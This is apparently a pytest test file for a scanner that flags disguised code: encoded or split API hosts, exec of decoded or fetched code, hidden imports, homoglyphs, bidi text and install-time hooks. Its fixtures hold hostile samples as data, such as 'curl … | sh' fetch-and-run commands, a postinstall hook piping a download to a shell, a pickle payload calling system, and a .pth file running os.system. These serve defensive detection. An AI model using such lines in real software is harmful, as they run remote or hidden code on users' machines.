"""Signs of hiding: each disguise is told of, with its place; ordinary code that looks alike mildly, or not at all."""

from __future__ import annotations

import base64
import codecs
import marshal
import zlib
from pathlib import Path

import pytest

from lint_procore.review.signs import KINDS, Sign, signs

HOST = "https://api.procore.com"
B64 = base64.b64encode(HOST.encode()).decode()
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20


def seen(folder: Path, files: dict[str, str | bytes]) -> list[Sign]:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass"))
    return signs(str(folder), list(files))


def strong(found: list[Sign]) -> set[str]:
    return {sign.kind for sign in found if sign.weight == "strong"}


XORED = bytes(byte ^ 42 for byte in HOST.encode())
PYTHON_HOSTS = {
    "base64": f'import base64\nurl = base64.b64decode("{B64}").decode()\n',
    "base64 under another name": f'from base64 import b64decode as look\nurl = look("{B64}")\n',
    "base64 twice": f'url = "{base64.b64encode(B64.encode()).decode()}"\n',
    "base64 in pieces": f'import base64\nurl = base64.b64decode("{B64[:9]}" + "{B64[9:]}")\n',
    "base64 over lines": f'KEY = ("{B64[:12]}"\n       "{B64[12:]}")\nimport base64\nprint(base64.b64decode(KEY))\n',
    "base85": f"import base64\nurl = base64.b85decode({base64.b85encode(HOST.encode())!r})\n",
    "compressed": f"import zlib\nurl = zlib.decompress({zlib.compress(HOST.encode())!r})\n",
    "compressed, in base64": f'data = "{base64.b64encode(zlib.compress(HOST.encode())).decode()}"\n',
    "hexadecimal digits": f'url = bytes.fromhex("{HOST.encode().hex()}")\n',
    "hexadecimal digits with gaps": f'url = bytes.fromhex("{HOST.encode().hex(" ")}")\n',
    "rot13": f'import codecs\nurl = codecs.decode("{codecs.encode(HOST, "rot13")}", "rot13")\n',
    "shifted by five": '# the shift is undone elsewhere\nurl = "uwthtwj"\n',
    "backwards": f'url = "{HOST[::-1]}"[::-1]\n',
    "reversed": f'url = "".join(reversed("{HOST[::-1]}"))\n',
    "percent escapes": 'from urllib.parse import unquote\nurl = unquote("https://api.%70%72ocore.com")\n',
    "escapes": 'url = "https://api.\\x70rocore.com"\n',
    "a number as text": f"url = ({int.from_bytes(HOST.encode(), 'big')}).to_bytes({len(HOST)}, 'big')\n",
    "letters": f"url = ''.join({list(HOST)!r})\n",
    "codes": f"url = ''.join(chr(code) for code in {list(HOST.encode())})\n",
    "codes through map": f"url = ''.join(map(chr, {list(HOST.encode())}))\n",
    "codes as bytes": f"url = bytes({list(HOST.encode())}).decode()\n",
    "a sum of codes": "name = chr(112) + chr(114) + chr(111) + chr(99) + chr(111) + chr(114) + chr(101)\n",
    "crossed numbers": f"url = ''.join(chr(code ^ 42) for code in {list(XORED)})\n",
    "crossed bytes": f"url = bytes(b ^ 42 for b in {XORED!r})\n",
    "crossed elsewhere": f"url = undo({XORED!r})\n",
    "halves": 'url = "https://api.pro" + "core.com"\n',
    "halves side by side": 'url = "https://api.pro" "core.com"\n',
    "halves by name": 'ONE = "pro"\nTWO = "core"\nurl = f"https://api.{ONE}{TWO}.com"\n',
    "halves in a template": 'url = "https://api.%score.com" % "pro"\n',
    "halves in braces": 'url = "https://api.{}core.com".format("pro")\n',
    "a name that grows": 'url = "https://api.pro"\nurl += "core.com"\n',
    "replaced": 'url = "https://api.prXcXre.com".replace("X", "o")\n',
    "every other letter": 'url = "p1r2o3c4o5r6e7"[::2]\n',
    "exchanged letters": 'url = "pracare".translate(str.maketrans("a", "o"))\n',
    "a decoder of its own": "def undo(text, key=42):\n    out = ''\n    for code in text:\n"
    "        out += chr(code ^ key)\n"
    f"    return out\nurl = undo({list(XORED)})\n",
    "a lambda": f"undo = lambda text: text[::-1]\nurl = undo('{HOST[::-1]}')\n",
    "a rolling key": "DATA = "
    + repr([byte ^ b"key"[at % 3] for at, byte in enumerate(HOST.encode())])
    + "\nKEY = b'key'\nurl = ''.join(chr(byte ^ KEY[at % len(KEY)]) for at, byte in enumerate(DATA))\n",
    "a named hole": 'url = "https://api.{half}core.com".format(half="pro")\n',
    "a named hole of old": 'url = "https://api.%(half)score.com" % {"half": "pro"}\n',
    "a template": 'from string import Template\nurl = Template("https://api.${half}core.com").substitute(half="pro")\n',
    "digits between letters": 'import re\nurl = re.sub(r"\\d", "", "p1r2o3c4o5r6e.com")\n',
    "letters that are kept": 'url = "".join(filter(str.isalpha, "p1r2o3c4o5r6e"))\n',
    "letters of the alphabet": "from string import ascii_lowercase as a\n"
    "name = a[15] + a[17] + a[14] + a[2] + a[14] + a[17] + a[4]\n",
    "a table of letters": "T = {'1': 'p', '2': 'r', '3': 'o', '4': 'c', '5': 'e'}\n"
    "name = ''.join(T[x] for x in '1234325')\n",
    "fields of a class": "class Names:\n    ONE = 'pro'\n    TWO = 'core'\n\nurl = Names.ONE + Names.TWO\n",
    "fields of an object": "class Client:\n    def __init__(self):\n"
    "        self.one = 'pro'\n        self.two = 'core'\n\n"
    "    def url(self):\n        return self.one + self.two\n",
    "the grant": 'data = {"grant_type": "client_cred" + "entials"}\n',
    "the path": f'import base64\npath = base64.b64decode("{base64.b64encode(b"/oauth/token").decode()}")\n',
    "a comment": f"# {B64}\n",
}


@pytest.mark.parametrize("code", PYTHON_HOSTS.values(), ids=PYTHON_HOSTS)
def test_a_hidden_address_is_told_of(tmp_path: Path, code: str) -> None:
    found = seen(tmp_path, {"app.py": code})
    assert {sign.kind for sign in found} & {"encoded-host", "joined-host"}, found
    assert all(sign.row >= 1 and sign.column >= 1 for sign in found)
    word = {"the grant": "client_credentials", "the path": "oauth/token"}
    expected = next((said for name, said in word.items() if PYTHON_HOSTS[name] == code), "procore")
    assert any(expected in sign.message for sign in found), found


def test_a_word_that_is_cut_between_files_is_told_of(tmp_path: Path) -> None:
    found = seen(
        tmp_path,
        {
            "app/one.py": 'ONE = "pro"\n',
            "app/two.py": 'TWO = "core"\n',
            "app/open.py": 'NAME = "procore"\n',
            "app/client.py": "from app.one import ONE\nfrom . import two\n\nurl = f'https://{ONE}{two.TWO}.com'\n",
            "app/honest.py": "from app.open import NAME\n\nurl = f'https://{NAME}.com/oauth/token'\n",
        },
    )
    assert [(sign.filename, sign.kind) for sign in found] == [("app/client.py", "joined-host")]


OPEN = {
    "an address": f'url = "{HOST}"\n',
    "host and path": f'BASE = "{HOST}"\nurl = BASE + "/rest/v1.0/me"\n',
    "host in a template": 'url = f"https://{name}.procore.com/oauth/token"\n',
    "the path from words": 'OAUTH = "/oauth"\nurl = HOST + OAUTH + "/token"\n',
    "the grant from words": 'grant = "client_" + "credentials"\n',
    "domain and ending": 'url = "procore" + ".com"\n',
    "in capitals": 'name = "PROCORE".lower()\n',
    "an encoded address in a query": 'url = "https://x.test/?to=https%3A%2F%2Flogin.procore.com%2Foauth%2Ftoken"\n',
    "a picture": f'LOGO = "data:image/png;base64,{base64.b64encode(PNG).decode()}"\n',
    "an id of the platform": f'id = "{base64.b64encode(b"gid://procore/Project/1").decode()}"\n',
    "a hash": 'digest = "d2f1b7c0a9e84f6b8a7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a"\n',
    "another host in base64": f'url = base64.b64decode("{base64.b64encode(b"https://example.org").decode()}")\n',
    "a dictionary of tables": 'TABLE = {"a": [1, 2, 3], "b": [40, 50, 60, 70, 80, 90, 100]}\n',
    "evaluating by others": "frame.eval('a + b')\nmodel.eval()\nast.literal_eval(text)\nre.compile(pattern)\n",
    "an import by name": 'import importlib\nmodule = importlib.import_module("app.plugins")\n',
    "reading attributes": "value = getattr(self, name, None)\n",
    "names that share a word": 'NAMES = ("procore_get", "procore_put") + ("procore_post",) + ("procore_all",) * 4\n',
    "a command": 'import subprocess\nsubprocess.run(["git", "status"])\n',
    "Russian": 'name = "Привет, мир"\n# комментарий\n',
    "an umlaut": 'größe = "Fußgängerübergänge"\n',
}


@pytest.mark.parametrize("code", OPEN.values(), ids=OPEN)
def test_what_is_in_the_open_is_no_sign(tmp_path: Path, code: str) -> None:
    assert [sign for sign in seen(tmp_path, {"app.py": code}) if sign.kind != "minified"] == []


BUILT = {
    "decoded code": f'import base64\nexec(base64.b64decode("{base64.b64encode(b"print(1)").decode()}"))\n',
    "code decoded from a file": "import zlib\nexec(zlib.decompress(open('x').read()))\n",
    "code from the network": "import requests\nexec(requests.get(url).text)\n",
    "the text at the head of a module": '"""\nimport requests\nrequests.get(url)\n"""\nexec(__doc__)\n',
    "the text at the head of a function": (
        'def about():\n    """import httpx; httpx.get(url)"""\n\nexec(compile(about.__doc__, "x", "exec"))\n'
    ),
    "the text at the head of a class": (
        'class About:\n    """import urllib.request as r; r.urlopen(url)"""\n\nexec(About.__doc__)\n'
    ),
    "a client as text": "CODE = 'import requests\\nrequests.get(url)'\nexec(CODE)\n",
    "a file of another kind": "exec(open('static/robots.txt').read())\n",
    "a file of another kind by its path": (
        "from pathlib import Path\nexec(compile(Path('data', 'help.txt').read_text(), 'x', 'exec'))\n"
    ),
    "a file of another kind that is run": "import runpy\nrunpy.run_path('data/help.txt')\n",
    "a file of another kind that is imported": (
        "from importlib.machinery import SourceFileLoader\nSourceFileLoader('logo', path='logo.png').load_module()\n"
    ),
    "code from the environment": "import os\nexec(os.environ['BOOT'])\n",
    "code from the environment by a name": "import os\ncode = os.getenv('BOOT')\nexec(compile(code, 'x', 'exec'))\n",
    "code from a connection": "def handle(line):\n    exec(line.recv(4096))\n",
    "code from a database": "row = db.execute('select code from jobs').fetchone()\nexec(row[0])\n",
    "code under another name": "run = exec\nrun(text)\n",
    "exec by its letters": 'import builtins\ngetattr(builtins, "ex" + "ec")(text)\n',
    "exec from a table": '__builtins__.__dict__["ev" + "al"](text)\n',
    "compiled first": f'import base64\neval(compile(base64.b64decode("{B64}"), "x", "exec"))\n',
    "marshal": f"import marshal\nexec(marshal.loads({marshal.dumps(compile('1', 'x', 'exec'))!r}))\n",
    "pickled code in the program": "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')\n",
}


@pytest.mark.parametrize("code", BUILT.values(), ids=BUILT)
def test_code_that_is_built_is_told_of(tmp_path: Path, code: str) -> None:
    assert "built-code" in strong(seen(tmp_path, {"app.py": code}))


def test_a_hidden_import_and_a_hidden_call_are_told_of(tmp_path: Path) -> None:
    found = seen(
        tmp_path,
        {
            "a.py": 'client = __import__("req" + "uests")\n',
            "b.py": "import importlib, base64\nimportlib.import_module(base64.b64decode(name).decode())\n",
            "c.py": 'import requests\ngetattr(requests, "po" + "st")(url)\n',
        },
    )
    assert [(sign.filename, sign.kind, sign.weight) for sign in found] == [
        ("a.py", "hidden-import", "strong"),
        ("b.py", "hidden-import", "strong"),
        ("c.py", "hidden-name", "strong"),
    ]
    assert '"requests"' in found[0].message


def test_what_ordinary_programs_do_as_well_is_told_mildly(tmp_path: Path) -> None:
    found = seen(
        tmp_path,
        {
            "plugins.py": "import importlib\nfor name in names:\n    importlib.import_module(name)\n",
            "setup.py": "about = {}\nexec(open('app/version.py').read(), about)\n",
            "native.py": "import ctypes\n",
            "model.py": "import pickle\nmodel = pickle.load(open(path, 'rb'))\n",
            "calls.py": "import requests\ngetattr(requests, method)(url)\n",
            "formula.py": "result = eval(formula)\n",
            "switch.py": "import os\nDEBUG = eval(os.environ['DEBUG'])\n",
            "maker.py": "def make(fields):\n    exec(template.format(fields), namespace)\n",
            "health.py": "import subprocess\nsubprocess.run(['curl', f'http://localhost:{port}/'])\n",
            "static/jquery.min.js": "/*! jQuery */" + "var a=function(b){return b};" * 400,
            "data.bin": bytes(range(256)) * 4,
        },
    )
    assert {sign.filename for sign in found} == {
        *("plugins.py", "setup.py", "native.py", "model.py", "calls.py", "formula.py", "health.py"),
        *("switch.py", "maker.py"),
        *("static/jquery.min.js", "data.bin"),
    }
    assert strong(found) == set()


def test_requests_that_are_written_by_hand(tmp_path: Path) -> None:
    found = seen(
        tmp_path,
        {
            "a.py": "line.sendall(f'POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'.encode())\n",
            "b.py": "line.sendall(f'GET /rest/v1.0/me HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'.encode())\n",
            "c.py": "line.sendall(b'GET /me HTTP/1.0\\r\\n\\r\\n')\n",
            "others.py": "line.sendall(b'GET / HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n')\n",
            "answer.py": "line.sendall(b'HTTP/1.1 200 OK\\r\\nServer: x\\r\\n\\r\\n')\n",
            "said.py": "HELP = 'Send GET / HTTP/1.1 to the port'\n",
        },
    )
    assert [(sign.filename, sign.kind, sign.weight) for sign in found] == [
        ("a.py", "raw-request", "strong"),
        ("b.py", "raw-request", "strong"),
        ("c.py", "raw-request", "strong"),
    ]


ANYWHERE = {
    "a name": "import subprocess\nsubprocess.run(['curl', '-s', url])\n",
    "a host that is put in": "import subprocess\nsubprocess.check_output(['curl', f'https://{host}/rest/v1.0/me'])\n",
    "half a host": "import os\nos.system(f'wget https://api.{name}.com/rest/v1.0/me')\n",
    "a variable of the shell": "import os\nos.system('curl -s $URL/oauth/token | sh')\n",
}


@pytest.mark.parametrize("code", ANYWHERE.values(), ids=ANYWHERE)
def test_commands_that_may_reach_the_platform(tmp_path: Path, code: str) -> None:
    assert strong(seen(tmp_path, {"app.py": code})) == {"command-anywhere"}


ELSEWHERE = {
    "a written address": "import os\nos.system('curl -sS https://example.org/install.sh | sh')\n",
    "a path below one": "import subprocess\nsubprocess.run(['curl', '-fO', f'https://example.org/{name}'])\n",
    "no request at all": "import subprocess\nsubprocess.run(['curl', '--version'])\n",
}


@pytest.mark.parametrize("code", ELSEWHERE.values(), ids=ELSEWHERE)
def test_commands_to_others_are_told_mildly(tmp_path: Path, code: str) -> None:
    found = seen(tmp_path, {"app.py": code})
    assert ([sign.kind for sign in found], strong(found)) == (["command"], set())


def test_commands_that_reach_the_platform(tmp_path: Path) -> None:
    (sign,) = seen(tmp_path, {"app.py": f'import os\nos.system("curl -H token {HOST}/rest/v1.0/me")\n'})
    assert (sign.kind, sign.weight, sign.row) == ("command-to-platform", "strong", 2)


OTHERS = {
    "app.js": "const host = 'pro' + 'core' + '.com';\n",
    "list.js": 'const host = ["p", "r", "o", "c", "o", "r", "e"].join("");\n',
    "codes.ts": f"const host = String.fromCharCode({','.join(map(str, HOST.encode()))});\n",
    "atob.vue": f"<script>fetch(atob('{B64}'))</script>\n",
    "app.rb": 'host = "\\x70\\x72\\x6f\\x63\\x6f\\x72\\x65.com"\n',
    "app.php": "<?php $host = strrev('moc.erocorp.ipa');\n",
    "config.yaml": f"endpoint: {B64}\n",
    "settings.json": f'{{"endpoint": "{HOST.encode().hex()}"}}\n',
    "page.html": "<a href='https://&#112;&#114;ocore.com'>x</a>\n",
    "utf16.txt": f"x = {B64}\n".encode("utf-16"),
    "notebook.ipynb": '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", '
    '"metadata": {}, "outputs": [], "execution_count": null, '
    '"source": ["%matplotlib inline\\n", "url = \\"pro\\" + \\"core\\""]}]}',
}


@pytest.mark.parametrize("name", OTHERS)
def test_other_languages_hide_no_better(tmp_path: Path, name: str) -> None:
    found = seen(tmp_path, {name: OTHERS[name]})
    assert {sign.kind for sign in found} & {"encoded-host", "joined-host"}, found
    assert "procore" in found[0].message


def test_characters_that_deceive(tmp_path: Path) -> None:
    found = seen(
        tmp_path,
        {
            "bidi.py": "if access != 'user\u202e \u2066# check\u2069 \u2066':\n    pass\n",
            "host.py": 'url = "https://api.proc\u043ere.com"\n',
            "wide.js": "const \uff50rocore = 1;\n",
            "zero.py": "pass\u200bword = 1\n",
            "tags.js": "const x = '" + "\ufe01\ufe02\ufe03\U000e0101\U000e0102" + "';\n",
            "name\u202egpj.py": "pass\n",
        },
    )
    assert [(sign.filename, sign.kind) for sign in found if sign.weight == "strong"] == [
        *[("bidi.py", "bidi-text")] * 4,
        ("host.py", "lookalike-name"),
        ("name\u202egpj.py", "archive-name"),
        ("tags.js", "invisible-text"),
        ("wide.js", "lookalike-name"),
    ]
    assert [sign.kind for sign in found if sign.filename == "zero.py"] == ["invisible-character"]
    assert all(sign.message.isprintable() for sign in found)


def test_hebrew_and_pictures_in_prose_are_ordinary(tmp_path: Path) -> None:
    files = {
        "README.md": "\u202b\u05e9\u05dc\u05d5\u05dd\u202c \u2764\ufe0f\n",
        "messages.po": 'msgstr "\u200f\u05e9\u05dc\u05d5\u05dd"\n',
    }
    assert seen(tmp_path, files) == []


def test_unreadable_programs(tmp_path: Path) -> None:
    names = "var _0x3fa2b1=['a'];function _0x12ab(_0x3344aa){return _0x3fa2b1[_0x3344aa];}" * 6
    found = seen(
        tmp_path,
        {
            "a.js": names,
            "b.py": "".join(f"{'I' * n}l{'1' * n} = {n}\n" for n in range(4, 20)),
            "c.py": "data = 1; " * 500,
            "d.js": "eval(function(p,a,c,k,e,d){return p}('0',62))",
        },
    )
    assert [(sign.filename, sign.kind, sign.weight) for sign in found] == [
        ("a.js", "obfuscated", "strong"),
        ("b.py", "obfuscated", "strong"),
        ("c.py", "minified", "weak"),
        ("d.js", "obfuscated", "strong"),
    ]


PYC = b"\xa7\r\r\n" + bytes(12) + b"code"


def test_compiled_files(tmp_path: Path) -> None:
    found = seen(
        tmp_path,
        {
            "pkg/__pycache__/a.cpython-311.pyc": PYC,
            "pkg/a.py": "x = 1\n",
            "pkg/__pycache__/b.cpython-311.pyc": PYC + b"https://api.procore.com",
            "native.so": b"\x7fELF" + bytes(100),
            "fast.cpython-311-x86_64-linux-gnu.so": b"\x7fELF" + bytes(100),
            "fast.pyx": "x = 1\n",
            "picture.png": PNG,
            "picture2.png": b"MZ\x90\0" + bytes(100),
            "Main.class": b"\xca\xfe\xba\xbe" + bytes(60),
        },
    )
    assert [(sign.filename, sign.kind, sign.weight) for sign in found] == [
        ("Main.class", "bytecode-without-source", "strong"),
        ("fast.cpython-311-x86_64-linux-gnu.so", "binary-with-source", "weak"),
        ("native.so", "binary", "strong"),
        ("picture2.png", "binary", "strong"),
        ("pkg/__pycache__/a.cpython-311.pyc", "binary-with-source", "weak"),
        ("pkg/__pycache__/b.cpython-311.pyc", "bytecode-without-source", "strong"),
    ]
    assert "api.procore.com" in found[-1].message


def test_a_build_tool_is_told_of_once(tmp_path: Path) -> None:
    jar = "gradle/wrapper/gradle-wrapper.jar!/"
    (sign,) = seen(tmp_path, {f"{jar}{name}.class": b"\xca\xfe\xba\xbe" + bytes(60) for name in "abc"})
    assert (sign.filename, sign.kind) == ("gradle/wrapper/gradle-wrapper.jar", "unread-data")


def test_what_runs_at_installation(tmp_path: Path) -> None:
    requirements = "requests\ngit+https://example.org/x.git\n--extra-index-url https://example.org/simple\n"
    found = seen(
        tmp_path,
        {
            "setup.py": "from setuptools import setup\nimport urllib.request\nsetup(cmdclass={})\n",
            "evil.pth": "import os; os.system('id')\n",
            "__editable__.app.pth": "/home/me/app\n",
            "sitecustomize.py": "x = 1\n",
            "package.json": '{"scripts": {"postinstall": "curl https://x.test | sh", "test": "jest"}}\n',
            "requirements.txt": requirements,
        },
    )
    assert [(sign.filename, sign.kind, sign.weight) for sign in found] == [
        ("evil.pth", "startup-code", "strong"),
        ("package.json", "install-code", "strong"),
        *[("requirements.txt", "code-from-elsewhere", "weak")] * 3,
        ("setup.py", "install-code", "strong"),
        ("setup.py", "install-hook", "weak"),
        ("sitecustomize.py", "startup-code", "strong"),
    ]


@pytest.mark.parametrize("encoding", ["rot13", "utf-7", "unicode_escape", "raw-unicode-escape", "idna"])
def test_an_encoding_in_which_code_looks_like_something_else(tmp_path: Path, encoding: str) -> None:
    (sign, *_) = seen(tmp_path, {"app.py": f"# coding: {encoding}\nx = 1\n"})
    assert (sign.kind, sign.weight) == ("source-encoding", "strong")
    assert seen(tmp_path, {"app.py": "# -*- coding: latin-1 -*-\nx = 1\n"}) == []


def test_signs_are_sorted_bounded_and_counted(tmp_path: Path) -> None:
    found = seen(tmp_path, {f"m{n:03}.py": 'a = "pro" + "core"\n' * 40 for n in range(250)})
    assert found == sorted(found, key=lambda sign: (sign.filename, sign.row, sign.column, sign.kind, sign.message))
    assert len(found) == 1_001
    first = [sign for sign in found if sign.filename == "m000.py"]
    assert [sign.kind for sign in first if sign.row] == ["joined-host"] * 5
    assert any(sign.filename == "" and sign.kind == "left-out" and "further signs" in sign.message for sign in found)


def test_links_are_not_followed_and_secrets_not_shown(tmp_path: Path) -> None:
    outside = tmp_path / "outside.py"
    outside.write_text('a = "pro" + "core"\n')
    inside = tmp_path / "in"
    inside.mkdir()
    (inside / "link.py").symlink_to(outside)
    assert signs(str(inside), ["link.py"]) == []
    hidden = base64.b64encode(b"https://user:Zx81kQ7vT2mN5pL9rB4w@api.procore.com").decode()
    found = seen(tmp_path, {"app.py": f'url = "{hidden}"\n'})
    assert found
    assert not any("Zx81kQ7vT2mN5pL9rB4w" in sign.message for sign in found)


def test_every_kind_is_told_of_in_the_guide() -> None:
    guide = (Path(__file__).parent.parent.parent / "docs" / "review.md").read_text(encoding="utf-8")
    for kind, (_, words) in KINDS.items():
        assert f"| `{kind}` | {words} |" in guide


def test_columns_count_characters(tmp_path: Path) -> None:
    text = f"gr\u00f6\u00dfe = '\u00e9\u00e9'; url = '{HOST[::-1]}'[::-1]\n"
    found = [(sign.kind, sign.row, sign.column) for sign in seen(tmp_path, {"app.py": text})]
    assert found[0] == ("encoded-host", 1, text.index(f"'{HOST[::-1]}'") + 1)
